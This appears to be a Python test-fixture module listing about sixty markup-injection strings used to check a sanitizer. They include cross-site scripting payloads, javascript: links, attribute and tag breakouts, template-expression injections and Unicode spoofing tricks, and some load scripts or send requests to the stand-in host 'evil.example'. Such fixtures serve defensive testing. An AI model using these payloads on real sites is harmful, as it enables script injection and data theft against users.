"""Sixty strings that would run, load, cover or steer something if any were taken for markup.

``HOST`` is a host that nothing may be asked of; ``hacked()`` is a function that a test watches.
"""

HOST = "evil.example"

HTML = (
    "<script>hacked()</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hacked()>",
    "<img src=http://evil.example/a.png>",
    "<img srcset='//evil.example/b.png 2x'>",
    "<svg onload=hacked()>",
    "<svg><script>hacked()</script></svg>",
    "<svg><use href='//evil.example/u.svg#x'/></svg>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>parent.hacked()</script>'></iframe>",
    "<object data=//evil.example/o></object>",
    "<embed src=//evil.example/e>",
    "<video src=//evil.example/v autoplay onerror=hacked()></video>",
    "<audio src=//evil.example/s autoplay></audio>",
    "<link rel=stylesheet href=//evil.example/l.css>",
    "<style>@import '//evil.example/s.css';body{display:none}</style>",
    "<style>*{background:url(//evil.example/bg)}</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>over</div>",
    "<div style='background:url(//evil.example/d)'>x</div>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>Log in</button></form>",
    "<a href='javascript:hacked()'>click</a>",
    "<a href=//evil.example ping=//evil.example/p>click</a>",
    "<input autofocus onfocus=hacked()>",
    "<details open ontoggle=hacked()>x</details>",
    "<body onload=hacked()>",
    "<marquee onstart=hacked()>x</marquee>",
    "<math><mi xlink:href='javascript:hacked()'>x</mi></math>",
    "<template><script>hacked()</script></template>",
    "<dialog open style='inset:0'>over</dialog>",
    '<button data-send=ask data-payload=\'{"question":"x"}\'>x</button>',
    "<!--><img src=x onerror=hacked()>-->",
    "</p></section></div><script>hacked()</script>",
    "</textarea><script>hacked()</script>",
    "</title><script>hacked()</script>",
    "' onmouseover='hacked()' x='",
    '" onfocus="hacked()" autofocus x="',
    "&lt;img src=x onerror=hacked()&gt;",
    "&#60;script&#62;hacked()&#60;/script&#62;",
)
TEMPLATES = (
    "${hacked()}",
    "`${hacked()}`",
    "\\`;hacked();\\`",
    "{{hacked}} {{{hacked}}}",
    "{{#each this}}{{hacked}}{{/each}}",
    "{% hacked() %}",
    "@children",
)
MARKDOWN = (
    "![x](http://evil.example/m.png)",
    "![x][ref] [ref]: http://evil.example/r.png",
    "[click](javascript:hacked())",
    "[click](http://evil.example)",
    "<http://evil.example/auto>",
    "http://evil.example/bare",
    "$$\\href{javascript:hacked()}{x}$$",
    "```html <img src=x onerror=hacked()> ```",
)
UNICODE = (
    "\u202egpj.exe <script>hacked()</script>",
    "\u2066\u2067turned\u2069 <img src=x onerror=hacked()>",
    "＜script＞hacked()＜/script＞",
    "\u200b<\u200bscript>hacked()</script>",
    "\ufeff<svg/onload=hacked()>\u2028hacked()",
)
STRINGS = (*HTML, *TEMPLATES, *MARKDOWN, *UNICODE)
